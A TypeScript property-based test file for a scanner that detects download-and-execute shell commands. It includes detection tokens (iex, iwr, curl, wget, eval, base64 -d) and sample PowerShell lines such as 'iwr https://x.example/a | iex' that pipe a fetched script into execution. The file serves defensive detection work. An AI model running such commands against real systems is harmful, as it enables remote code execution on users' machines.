// Downloads that are run: where a finding stands, in whatever order the words come.
import fc from "fast-check";
import { expect, it } from "vitest";
import { scan } from "../scan.js";

const word = fc.constantFrom(
  ...[
    "iex",
    "iwr",
    "curl",
    "wget",
    "sh",
    "bash",
    "https://x.example/a",
    "|",
    "(",
    ")",
    "$(",
    "-o",
    "a.sh",
    ";",
    "&&",
    "-enc",
    "eval",
  ],
  ...["fetch", "x.DownloadString('u')", "powershell", "base64", "-d", "`", "\n", "echo"],
);

it("every finding of commands in any order lies in its text, its start before its end", () => {
  fc.assert(
    fc.property(fc.array(word, { maxLength: 12 }), (words) => {
      const text = words.join(" ");
      for (const { start, end } of scan(text).findings) {
        expect(start).toBeLessThan(end);
        expect(end).toBeLessThanOrEqual(text.length);
      }
    }),
    { numRuns: 2000 },
  );
});

it("a download is run by what stands before it or behind a pipe, not by a word that follows", () => {
  const codes = (text: string) => scan(text).codes;
  expect(codes("iex (iwr https://x.example/a)")).toContain("destructive_shell");
  expect(codes("iwr https://x.example/a | iex")).toContain("destructive_shell");
  expect(codes("iwr https://x.example/a and then iex")).not.toContain("destructive_shell");
});
